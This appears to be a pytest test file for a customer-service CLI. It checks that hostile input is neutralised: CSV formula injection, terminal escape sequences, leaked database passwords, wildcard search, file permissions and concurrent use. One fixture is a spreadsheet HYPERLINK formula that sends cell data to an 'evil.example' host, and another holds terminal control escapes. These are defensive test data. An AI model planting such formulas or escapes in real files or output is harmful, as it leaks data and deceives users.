"""Hostile and careless input that is not a refusal: what custsvc shows of hostile data, what it
writes to disk, and how it behaves beside other processes (issue: nothing hangs, leaks or breaks)."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from tests.conftest import PG_SERVER, Cli

sqlite_only = pytest.mark.skipif(bool(PG_SERVER), reason="checks SQLite files")
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
ESCAPES = "Bakery \x1b]0;pwned\x07 \x1b[31mred\x1b[0m \u202eevil"


def _store(customer: str, name: str) -> None:
    """A name as an older version or another tool may have stored it (input checks refuse it now)."""
    from sqlalchemy import update

    from custsvc import state
    from custsvc.bootstrap import open_context
    from custsvc.models import Customer

    state.reset()
    with open_context() as ctx:
        ctx.execute(update(Customer).where(Customer.account == customer).values(name=name))


def test_csv_cells_cannot_become_formulas(demo):
    _store("C-1001", FORMULA)
    _store("C-1002", "+1 555 0100")
    rows = list(csv.DictReader(io.StringIO(demo("customer", "list", "--format", "csv").stdout)))
    names = {r["account"]: r["name"] for r in rows}
    assert names["C-1001"] == "'" + FORMULA and names["C-1002"] == "'+1 555 0100"
    raw = {
        r["account"]: r["name"]
        for r in csv.DictReader(io.StringIO(demo("--csv-raw", "customer", "list", "-f", "csv").stdout))
    }
    assert raw["C-1001"] == FORMULA
    credit_note = demo("invoice", "credit", "INV-000074").stdout.strip()  # one line of 2400.00
    exported = demo("invoice", "export", "--from", "2025-01-01", "--to", "2027-12-31", "--format", "csv").stdout
    amounts = [r["amount"] for r in csv.DictReader(io.StringIO(exported)) if r["invoice"] == credit_note]
    assert amounts == ["-2400.00"]  # negative numbers stay numbers


def test_a_neutralised_export_imports_back_as_it_was(demo, tmp_path):
    _store("C-1001", FORMULA)
    exported = tmp_path / "customers.csv"
    exported.write_text(demo("customer", "list", "--format", "csv").stdout)
    demo("customer", "update", "C-1001", "--name", "Somebody else")
    demo("customer", "import", str(exported), "--upsert")
    assert demo.json("customer", "show", "C-1001")["name"] == FORMULA


@pytest.mark.parametrize("fmt", ["table", "plain", "markdown"])
def test_control_characters_never_reach_the_terminal(demo, fmt):
    _store("C-1001", ESCAPES + " | pipe")
    wide = {"COLUMNS": "300"}  # room for the whole escaped name (a narrow table ends it in an ellipsis)
    listed = demo("customer", "list", "--format", fmt, env=wide).stdout
    shown = demo("customer", "show", "C-1001", "--format", fmt, env=wide).stdout
    for text in (listed, shown):
        assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text
        assert "\\x1b]0;pwned\\x07" in text and "\\u202e" in text
    if fmt == "markdown":
        assert "\\| pipe" in listed and "\\| pipe" in shown


def test_json_keeps_the_value_and_escapes_every_control(demo):
    _store("C-1001", ESCAPES + "\x9b")
    text = demo("customer", "show", "C-1001", "--format", "json").stdout
    assert "\x1b" not in text and "\x9b" not in text and "\u202e" not in text
    assert json.loads(text)["name"] == ESCAPES + "\x9b"


def test_errors_show_control_characters_escaped_and_never_a_password(cli):
    result = cli("customer", "add", "C-1", "--name", "\x1b]0;pwned\x07", code=1)
    assert "\x1b" not in result.stderr and "\\x1b]0;pwned\\x07" in result.stderr
    for env in (
        {"CUSTSVC_DB": "postgresql://custsvc:S3cretPW-42@127.0.0.1:notaport/sec"},
        {"CUSTSVC_DB": "postgresq://u:S3cretPW-42@h/db"},
    ):
        result = cli("customer", "list", code=2, env=env)
        assert "S3cretPW-42" not in result.stderr and "***" in result.stderr


def test_search_finds_percent_and_underscore_as_letters(cli):
    cli("customer", "add", "C-1", "--name", "100% Bakery")
    cli("customer", "add", "C-2", "--name", "Cafe_Riga")
    cli("customer", "add", "C-3", "--name", "Plain")
    assert [c["account"] for c in cli.json("customer", "list", "--search", "%")] == ["C-1"]
    assert [c["account"] for c in cli.json("customer", "list", "--search", "_")] == ["C-2"]


@sqlite_only
def test_a_new_database_and_its_folder_are_private(tmp_path, monkeypatch):
    monkeypatch.setattr(os, "umask", os.umask)  # restored by monkeypatch
    old = os.umask(0o022)
    try:
        location = tmp_path / "new" / "deeper" / "shop.db"
        Cli()("--db", str(location), "db", "init")
        Cli()("--db", str(location), "customer", "add", "C-1", "--name", "Bakery")
    finally:
        os.umask(old)
    for path in (location, location.with_name("shop.db-wal"), location.with_name("shop.db-shm")):
        if path.exists():
            assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    for folder in (location.parent, location.parent.parent):
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700, folder


def _run(args: list[str], env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "custsvc", *args], capture_output=True, text=True, env=env, timeout=120
    )


def test_a_reader_that_goes_away_is_not_an_error(demo_template, tmp_path):
    from tests.conftest import _new_database

    url, cleanup = _new_database(demo_template, tmp_path)
    env = {**os.environ, "CUSTSVC_DB": url, "CUSTSVC_NOW": "2026-03-10T09:00:00+02:00"}
    env.pop("CUSTSVC_DEBUG", None)
    try:
        for _ in range(5):
            process = subprocess.Popen(
                [sys.executable, "-m", "custsvc", "order", "list", "--format", "plain"],
                stdout=subprocess.PIPE,
                stderr=subprocess.PIPE,
                env=env,
            )
            assert process.stdout is not None and process.stderr is not None
            process.stdout.readline()
            process.stdout.close()  # like `| head -1`
            code, err = process.wait(timeout=60), process.stderr.read()
            assert (code, err) == (0, b"")
    finally:
        cleanup()


def test_many_first_uses_of_an_empty_database_at_once(blank_db):
    """Eight `db init` on a new, empty database at once: the schema is made once, the others wait, all work."""
    env = {**os.environ, "CUSTSVC_DB": blank_db}
    env.pop("CUSTSVC_DEBUG", None)
    processes = [
        subprocess.Popen(
            [sys.executable, "-m", "custsvc", "db", "init", "--format", "json"],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env=env,
        )
        for _ in range(8)
    ]
    results = [(p.wait(timeout=120), *p.communicate()) for p in processes]
    assert [code for code, _out, _err in results] == [0] * 8, [err for _code, _out, err in results]
    assert sum(json.loads(out)["created"] for _code, out, _err in results) == 1
    assert Cli().json("customer", "list") == []


def test_generation_near_the_cap_runs_and_refused_rules_are_impossible(cli):
    cli("customer", "add", "C-1", "--name", "Bakery")
    cli("agreement", "create", "A-1", "--customer", "C-1", "--start", "2026-01-01")
    for rule in ("FREQ=SECONDLY", "FREQ=DAILY;INTERVAL=0"):
        result = cli(
            "agreement",
            "line",
            "add",
            "A-1",
            "--type",
            "fee",
            "--price",
            "1",
            "--rrule",
            rule,
            "--start",
            "2026-01-01",
            code=1,
        )
        assert result.stderr.startswith(f"error: invalid rrule '{rule}'")
    cli(
        "agreement",
        "line",
        "add",
        "A-1",
        "--type",
        "fee",
        "--price",
        "1",
        "--rrule",
        "FREQ=DAILY",
        "--start",
        "2026-01-01",
    )
    summary = cli.json("agreement", "generate", "--from", "2026-01-01", "--to", "2036-01-08", "--summary")
    assert summary["created_lines"] == 3660
    result = cli("agreement", "generate", "--from", "2026-01-01", "--to", "2036-01-09", code=1)
    assert "at most 3660 per line" in result.stderr


def test_files_in_other_encodings_name_the_encoding(cli, tmp_path):
    latin = tmp_path / "latin.csv"
    latin.write_bytes("account,name\nC-1,Caf\u00e9\n".encode("latin-1"))
    result = cli("customer", "import", str(latin), code=1)
    assert "is not UTF-8" in result.stderr and "--encoding" in result.stderr
    cli("customer", "import", str(latin), "--encoding", "latin-1")
    assert cli.json("customer", "show", "C-1")["name"] == "Caf\u00e9"
    wide = tmp_path / "wide.csv"
    wide.write_bytes("account,name\nC-2,R\u012bga\n".encode("utf-16"))
    assert "UTF-16" in cli("customer", "import", str(wide), code=1).stderr
    cli("customer", "import", str(wide), "--encoding", "utf-16")
    assert cli.json("customer", "show", "C-2")["name"] == "R\u012bga"


def test_the_documented_revisions_are_the_scripts(tmp_path):
    from alembic.script import ScriptDirectory

    from custsvc import migrations

    scripts = ScriptDirectory.from_config(migrations.alembic_config())
    assert sorted(r.revision for r in scripts.walk_revisions()) == list(migrations.REVISIONS)
    assert Path(migrations.HERE).is_dir()


@sqlite_only
def test_a_reader_does_not_wait_for_a_writer(cli, db_url):
    """While another process holds SQLite's write lock (a long run), a list reads at once: reading
    commands, their schema check included, never ask for the write lock."""
    import sqlite3
    import time

    path = db_url.removeprefix("sqlite:///")
    holder = sqlite3.connect(path, isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")
    try:
        began = time.perf_counter()
        cli("customer", "list")
        assert time.perf_counter() - began < 5  # the busy timeout is 30 s
    finally:
        holder.execute("ROLLBACK")
        holder.close()
